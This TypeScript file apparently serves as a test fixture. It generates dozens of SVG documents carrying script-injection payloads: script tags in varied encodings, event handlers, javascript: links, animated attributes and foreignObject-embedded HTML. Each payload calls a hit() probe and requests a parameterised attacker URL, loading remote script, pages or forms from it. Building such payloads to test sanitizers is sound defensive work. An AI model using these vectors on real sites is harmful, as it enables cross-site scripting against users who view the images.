import { svg, svgGroup } from './svg.ts';

/** SVGs with a script that calls `hit()` and requests `attackerUrl`. */
export function svgsWithScripts(attackerUrl: string) {
  const run = `(self.hit||top.hit)(),new Image().src='${attackerUrl}/ran'`;
  const escaped = run.replaceAll("'", '&#39;');
  const data = `data:text/javascript,${encodeURIComponent(run)}`;
  return [
    ...svgGroup('script', [
      svg(`<script>${run}</script>`),
      svg(`<script><![CDATA[${run}]]></script>`),
      svg(`<script type="application/ecmascript">${run}</script>`),
      svg(`<script type="module">${run}</script>`),
      svg(`<script type="text/&#106;avascript">${run}</script>`),
      svg(`<script>/*<!--*/${run}//--></script>`),
      svg(`<script xlink:href="${data}"/>`),
      svg(`<script href="${data}"/>`),
      svg(`<script href="${attackerUrl}/x.js"/>`),
      svg(`<script xlink:href="${attackerUrl}/x.js"/>`),
      svg(`<h:script>${run}</h:script>`),
      svg(`<h:script src="${attackerUrl}/x.js"/>`),
      svg(`<s:script xmlns:s="http://www.w3.org/2000/svg">${run}</s:script>`),
      svg(`<defs><script>${run}</script></defs>`),
      svg(`<switch><g><script>${run}</script></g></switch>`),
      svg(`<symbol id="s"><script>${run}</script></symbol><use href="#s"/>`),
      svg(`<svg><svg><script>${run}</script></svg></svg>`),
      svg(`<metadata><h:script>${run}</h:script></metadata>`),
      svg(`<text><script>${run}</script>words</text>`),
      svg(`<SCRIPT>${run}</SCRIPT>`),
      svg(`<script>\u2028${run}</script>`),
    ]),
    ...svgGroup('handler', [
      ...['onload', 'onLoad', 'onerror', 'onresize', 'onscroll', 'onfocusin', 'onunload'].map(
        (name) => svg('', { attributes: `width="40" height="2" ${name}="${escaped}"` }),
      ),
      ...['onclick', 'onmouseover', 'onpointerenter', 'onwheel', 'onactivate'].map((name) =>
        svg(`<rect width="40" height="2" ${name}="${escaped}"/>`),
      ),
      ...['onbegin', 'onend', 'onrepeat'].map((name) =>
        svg(
          `<rect><animate attributeName="x" dur="1ms" repeatCount="2" ${name}="${escaped}"/></rect>`,
        ),
      ),
      svg(`<set attributeName="x" to="1" begin="0s" onbegin="${escaped}"/>`),
      svg(`<animateTransform attributeName="transform" dur="1ms" onbegin="${escaped}"/>`),
      svg(`<animateMotion dur="1ms" path="M0 0h1" onend="${escaped}"/>`),
      svg(`<image href="#none" onerror="${escaped}"/>`),
      svg(`<image href="data:image/png;base64,AAAA" onerror="${escaped}"/>`),
      svg(`<style onload="${escaped}">rect{fill:red}</style>`),
      svg(`<script onerror="${escaped}" href="#"/>`),
      svg(`<g onload="${escaped}"><title onload="${escaped}">t</title></g>`),
      svg(`<set attributeName="onload" to="${escaped}"/>`),
      svg(`<animate attributeName="onclick" values="${escaped}"/>`),
      svg(`<handler type="application/ecmascript" xmlns:ev="e" ev:event="load">${run}</handler>`),
    ]),
    ...svgGroup('link', [
      svg(`<a href="javascript:${escaped}"><rect width="40" height="2"/></a>`),
      svg(`<a xlink:href="javascript:${escaped}"><rect width="40" height="2"/></a>`),
      svg(`<a href="java&#10;script:${escaped}"><rect width="40" height="2"/></a>`),
      svg(`<a><animate attributeName="href" values="javascript:${escaped}"/><text>x</text></a>`),
      svg(`<a><set attributeName="xlink:href" to="javascript:${escaped}"/><text>x</text></a>`),
      svg(`<use href="data:image/svg+xml,&lt;svg onload=&quot;${escaped}&quot;/&gt;#x"/>`),
      svg(`<image href="data:image/svg+xml,&lt;svg onload=&quot;${escaped}&quot;/&gt;"/>`),
      svg(`<image href="data:text/html,&lt;script&gt;${escaped}&lt;/script&gt;"/>`),
      svg(`<use><set attributeName="href" to="${attackerUrl}/x.svg#x"/></use>`),
      svg(`<image><animate attributeName="href" values="${attackerUrl}/x.png" dur="1s"/></image>`),
    ]),
    ...svgGroup(
      'page inside',
      [
        `<h:iframe srcdoc="&lt;script&gt;parent.hit()&lt;/script&gt;"/>`,
        `<h:iframe src="javascript:parent.hit()"/>`,
        `<h:iframe src="${attackerUrl}/page"/>`,
        `<h:img src="x" onerror="${escaped}"/>`,
        `<h:img src="${attackerUrl}/x.png"/>`,
        `<h:object data="${attackerUrl}/x.svg"/>`,
        `<h:embed src="${attackerUrl}/x.svg"/>`,
        `<h:video poster="${attackerUrl}/x.png"><h:source src="x" onerror="${escaped}"/></h:video>`,
        `<h:audio src="x" onerror="${escaped}"/>`,
        `<h:input autofocus="" onfocus="${escaped}"/>`,
        `<h:details open="" ontoggle="${escaped}"><h:summary>x</h:summary></h:details>`,
        `<h:body onload="${escaped}"/>`,
        `<h:meta http-equiv="refresh" content="0;url=${attackerUrl}/left"/>`,
        `<h:link rel="stylesheet" href="${attackerUrl}/x.css"/>`,
        `<h:link rel="preload" as="image" href="${attackerUrl}/x.png"/>`,
        `<h:base href="${attackerUrl}/"/><h:img src="x.png"/>`,
        `<h:form action="${attackerUrl}/form"><h:button autofocus="" onfocus="${escaped}">x</h:button></h:form>`,
      ].map((inside) =>
        svg(`<foreignObject width="40" height="2" requiredExtensions="">${inside}</foreignObject>`),
      ),
    ),
  ];
}
